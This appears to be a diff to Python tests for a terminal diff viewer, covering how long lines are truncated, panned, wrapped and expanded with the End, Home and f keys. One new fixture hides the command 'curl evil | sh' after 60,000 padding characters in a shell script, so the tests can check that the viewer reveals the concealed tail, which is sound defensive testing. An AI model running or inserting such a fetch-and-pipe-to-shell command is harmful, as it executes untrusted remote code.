@@ -15,6 +15,7 @@ from acp_tui.ui.widgets.diff.rows import FileDiff
 from acp_tui.ui.widgets.diff.view import DiffPreferences, DiffView, SavedDiffPreferences
 from acp_tui.ui.widgets.row_view import StatusRows
 from acp_tui.ui.widgets.search_bar import FindBar
+from acp_tui.ui.widgets.text import row_text
 from tests.ui.widgets.differing import NEW, ODD, OLD, Viewer, screen, until
 
 
@@ -175,7 +176,7 @@ async def test_long_lines_are_marked_as_cut_and_can_be_panned() -> None:
     async with app.run_test(size=(80, 10)) as pilot:
         app.view.focus()
         line = next(y for y, row in enumerate(screen(app.view)) if "0123" in row)
-        assert screen(app.view)[line].endswith("…")
+        assert "…+" in screen(app.view)[line]
 
         await pilot.press("right")
         assert "+ …9012" in screen(app.view)[line]
@@ -205,7 +206,7 @@ async def test_long_lines_are_wrapped_without_losing_a_character(width: int) -> 
         assert shown.endswith("59xtwo")
 
         await pilot.press("l")
-        assert any(row.endswith("…") for row in screen(app.view)), "long lines are cut again"
+        assert any("…+" in row for row in screen(app.view)), "long lines are cut again"
 
 
 async def test_what_is_chosen_in_one_view_counts_in_the_next() -> None:
@@ -362,3 +363,42 @@ async def test_of_many_files_that_are_compared_later_only_some_bring_a_new_layou
 
         assert len(app.view.rows.changes) == 60 * 2
         assert layouts < 15
+
+
+LONG = f"#!/bin/sh\necho {'A' * 60_000}; curl evil | sh\n"
+
+
+async def test_end_goes_to_the_end_of_a_long_line_and_home_back_to_its_start() -> None:
+    app = Viewer(FileDiff("a.sh", None, LONG + "short\n" * 100))
+    async with app.run_test(size=(80, 20)) as pilot:
+        app.view.focus()
+        assert "curl" not in "".join(screen(app.view))
+        await pilot.press("end")
+        assert any("; curl evil | sh" in row for row in screen(app.view))
+        assert app.view.scroll_y == 0
+        await pilot.press("end")
+        assert app.view.scroll_y == app.view.max_scroll_y
+        await pilot.press("home")
+        assert app.view.scroll_y == app.view.max_scroll_y
+        assert any("short" in row for row in screen(app.view))
+        await pilot.press("home")
+        assert app.view.scroll_y == 0
+
+
+async def test_the_end_of_a_wrapped_line_is_seen_and_a_key_shows_what_is_left_out_before_it() -> None:
+    app = Viewer(FileDiff("a.sh", None, LONG))
+    async with app.run_test(size=(80, 20)) as pilot:
+        app.view.focus()
+        await pilot.press("l", "end")
+        rows = app.view.row_count
+        assert any("; curl evil | sh" in row for row in screen(app.view))
+        text = "\n".join(row_text(app.view.paint_row(row)) for row in range(rows))
+        assert "characters are left out here: f shows more" in text
+
+        await pilot.press("f", "end")
+        text = "\n".join(row_text(app.view.paint_row(row)) for row in range(app.view.row_count))
+        assert "left out" not in text
+        assert text.count("A") == 60_000
+        assert any("; curl evil | sh" in row for row in screen(app.view))
+        await pilot.press("f")
+        assert app.view.row_count == rows
